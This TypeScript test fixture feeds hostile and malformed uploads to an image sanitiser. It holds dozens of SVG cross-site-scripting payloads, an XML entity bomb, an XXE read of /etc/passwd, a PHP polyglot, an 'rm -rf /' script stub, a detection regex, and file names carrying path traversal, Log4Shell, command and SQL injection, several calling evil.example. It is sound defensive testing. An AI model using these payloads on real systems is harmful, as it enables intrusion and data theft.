import { crc32 } from 'node:zlib'
import { drawPng, drawSvg } from '#server/db/demo/pictures.ts'

/** A file to upload, and for which images it is good. */
export interface UploadCase {
  name: string
  bytes: Buffer
  good: 'both' | 'category' | 'neither'
}

const png = drawPng(3).bytes
const svg = String(drawSvg(3).bytes)
const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const HTML = '<!doctype html><script>alert(1)</script>'

const inSvg = (content: string, attributes = '') => `<svg ${NAMESPACES} ${attributes}>${content}</svg>`
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])

/** What tries to run, to load or to lead elsewhere from within an SVG; each is taken, without that. */
const SVG_ATTACKS = [
  '<script>alert(1)</script>',
  '<script xlink:href="https://evil.example/x.js"/>',
  '<script href="data:text/javascript,alert(1)"/>',
  '<![CDATA[<script>alert(1)</script>]]><rect/>',
  '<style><![CDATA[</style><script>alert(1)</script>]]></style>',
  '<a href="javascript:alert(1)"><rect/></a>',
  '<a xlink:href="&#106;avascript:alert(1)"><rect/></a>',
  '<rect onclick="alert(1)" onload="alert(1)" OnFocus="alert(1)"/>',
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/></body></foreignObject>',
  '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
  '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
  '<image href="https://evil.example/track.png"/>',
  '<feImage href="https://evil.example/track.png"/>',
  '<use href="https://evil.example/x.svg#a"/>',
  '<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
  '<use xlink:href="//evil.example/x.svg#a"/>',
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<set attributeName="onload" to="alert(1)"/>',
  '<animateTransform onbegin="alert(1)" attributeName="transform"/>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>rect { fill: url("https://evil.example/#x") }</style>',
  String.raw`<style>rect { fill: u\72l(https://evil.example) }</style>`,
  '<style>rect { background: image-set("https://evil.example/x" 1x) }</style>',
  '<rect style="background:url(https://evil.example)"/>',
  '<rect fill="url(https://evil.example/x.svg#a)"/>',
  '<rect filter="url( https://evil.example/x.svg#a )"/>',
  '<rect fill="url(javascript:alert(1))"/>',
  '<iframe src="https://evil.example"/>',
  '<embed src="https://evil.example"/><object data="https://evil.example"/>',
  '<video src="https://evil.example"><source src="https://evil.example"/></video>',
  '<handler type="application/ecmascript">alert(1)</handler>',
  '<metadata><script>alert(1)</script></metadata>',
  '<switch><foreignObject><script>alert(1)</script></foreignObject><rect/></switch>',
  '<text><tspan onmouseover="alert(1)">x</tspan></text>',
  '<rect xml:base="javascript:alert(1)"/>',
  '<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>',
  '<desc>]]&gt;&lt;/svg&gt;&lt;script&gt;alert(1)&lt;/script&gt;</desc>',
]

/** What no sanitised SVG may hold, in any spelling that a parser would take for it. */
export const SVG_DANGER =
  /<script|<foreignObject|<iframe|<image|<feImage|<animate|<set|<!|<\?|\son\w+=|javascript:|evil\.example|data:|@import|xml:base/i

/** Pictures and what pretends to be one. Larger files are left to the tests of the limits. */
export function uploadCases(): UploadCase[] {
  return [...rasters(), ...vectors(), ...otherFiles()]
}

/** Names that have led others astray; none is ever used for anything. */
export const FILE_NAMES = [
  '../../etc/passwd',
  String.raw`..\..\windows\win.ini`,
  '/etc/cron.d/x',
  'C:\\autoexec.bat',
  'CON',
  'aux.png',
  'nul.svg',
  'a\u202Egnp.exe',
  'a.png/../../b.html',
  '....//....//x.svg',
  '%2e%2e%2fx.svg',
  '%00.svg',
  'x.svg;.html',
  '.htaccess',
  '~root/x',
  '${jndi:ldap://evil.example}',
  '`id`.svg',
  '<script>alert(1)</script>.svg',
  "' or 1=1 --.svg",
  'ä'.repeat(120),
  ' ',
  '.',
  '..',
]

function rasters(): UploadCase[] {
  const neither = (name: string, bytes: Buffer): UploadCase => ({ name, bytes, good: 'neither' })
  const cuts = [8, 20, 33, 60, 100, 1000, Math.floor(png.length / 2), png.length - 100]
  return [
    { name: 'a png', bytes: png, good: 'both' },
    { name: 'a png with HTML behind it', bytes: Buffer.concat([png, Buffer.from(HTML)]), good: 'both' },
    { name: 'a png with a text of HTML', bytes: withChunk('tEXt', Buffer.from(`Comment\0${HTML}`)), good: 'both' },
    ...cuts.map((length) => neither(`a png cut at ${length} bytes`, png.subarray(0, length))),
    ...[
      [50_000, 50_000],
      [8193, 1],
      [1, 8193],
      [8192, 8192],
      [2 ** 31 - 1, 1],
      [0, 0],
      [0xffffffff, 0xffffffff],
    ].map(([width = 0, height = 0]) => neither(`a png that says ${width} × ${height}`, withSize(width, height))),
    ...[1, 3, 5, 7].map((depth) => neither(`a png of colour type ${depth}`, withHeaderByte(9, depth))),
    neither('a png with a broken checksum', withByte(30, 0)),
    neither('a jpeg of nothing', Buffer.from([0xff, 0xd8, 0xff, 0xe0])),
    neither('a jpeg that is HTML', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(HTML)])),
    neither('a jpeg without data', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xd9])])),
    neither('a jpeg of zeros', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(10_000)])),
  ]
}

function vectors(): UploadCase[] {
  const category = (name: string, content: string | Buffer): UploadCase => ({
    name,
    bytes: Buffer.from(content),
    good: 'category',
  })
  const neither = (name: string, content: string | Buffer): UploadCase => ({
    name,
    bytes: Buffer.from(content),
    good: 'neither',
  })
  const bomb = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')
  return [
    category('an svg', svg),
    category('an svg with a byte order mark', `\uFEFF${svg}`),
    category('an svg with a prolog', `<?xml version="1.0"?><!DOCTYPE svg><!-- x -->${svg}`),
    category('an svg that says UTF-7', `<?xml version="1.0" encoding="UTF-7"?>${svg}`),
    category('an svg with a style sheet', `<?xml-stylesheet href="https://evil.example/x.css"?>${svg}`),
    category('an svg that loads', inSvg('<rect/>', 'onload="alert(1)"')),
    ...SVG_ATTACKS.map((attack) => category(attack, inSvg(attack))),
    neither('an svg in UTF-16', utf16(svg)),
    neither('an svg that is not UTF-8', Buffer.from(`<svg ${NAMESPACES}>\xff</svg>`, 'latin1')),
    neither('an svg of nothing', '<svg'),
    neither('an svg that does not end', `<svg ${NAMESPACES}><g>`),
    neither('an svg without a namespace', '<svg><script>alert(1)</script></svg>'),
    neither('an svg within HTML', `<html><body>${svg}</body></html>`),
    neither('HTML that names svg', `<!doctype html><script>alert(1)</script><svg />`),
    neither('a bomb of entities', `<!DOCTYPE svg [<!ENTITY l0 "ha">${bomb}]>${inSvg('<text>&l9;</text>')}`),
    neither('a file by entity', `<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>${inSvg('&f;')}`),
    neither('a nest', inSvg(`${'<g>'.repeat(50_000)}${'</g>'.repeat(50_000)}`)),
    neither('two roots', `${svg}${svg}`),
    neither('an unknown prefix', inSvg('<x:rect/>')),
    neither('an attribute twice', inSvg('<rect x="1" x="2"/>')),
  ]
}

function otherFiles(): UploadCase[] {
  const files: Record<string, string | Buffer> = {
    html: HTML,
    'a gif': 'GIF89a\x01\x00\x01\x00\x00\x00\x00;',
    'a webp': 'RIFF\x1a\x00\x00\x00WEBPVP8L',
    'a bmp': 'BM\x00\x00\x00\x00',
    'a tiff': 'II*\x00',
    'an avif': '\x00\x00\x00\x1cftypavif',
    'an ico': '\x00\x00\x01\x00',
    'a pdf': '%PDF-1.7\n',
    'a zip': 'PK\x03\x04',
    'an exe': 'MZ\x90\x00',
    'a script': '#!/bin/sh\nrm -rf /\n',
    json: '{"a":1}',
    'a php in a png': Buffer.concat([Buffer.from('<?php phpinfo(); ?>'), png]),
    'a png after a blank': Buffer.concat([Buffer.from(' '), png]),
    'MVG of ImageMagick': 'push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 "https://evil.example"',
    'one byte': '\x89',
    zeros: Buffer.alloc(100_000),
    blanks: ' '.repeat(100_000),
    angles: '<'.repeat(100_000),
  }
  return Object.entries(files).map(([name, content]) => {
    return { name, bytes: typeof content === 'string' ? Buffer.from(content, 'latin1') : content, good: 'neither' }
  })
}

/** The png with another IHDR chunk (W3C PNG, section 11.2.1), its checksum right. */
function withHeader(change: (header: Buffer) => void): Buffer {
  const changed = Buffer.from(png)
  change(changed.subarray(16, 29))
  changed.writeUInt32BE(crc32(changed.subarray(12, 29)), 29)
  return changed
}

function withSize(width: number, height: number): Buffer {
  return withHeader((header) => {
    header.writeUInt32BE(width, 0)
    header.writeUInt32BE(height, 4)
  })
}

const withHeaderByte = (at: number, value: number) => withHeader((header) => header.writeUInt8(value, at))

function withByte(at: number, value: number): Buffer {
  const changed = Buffer.from(png)
  changed[at] = value
  return changed
}

function withChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const chunk = Buffer.alloc(body.length + 8)
  chunk.writeUInt32BE(data.length, 0)
  body.copy(chunk, 4)
  chunk.writeUInt32BE(crc32(body), body.length + 4)
  return Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)])
}
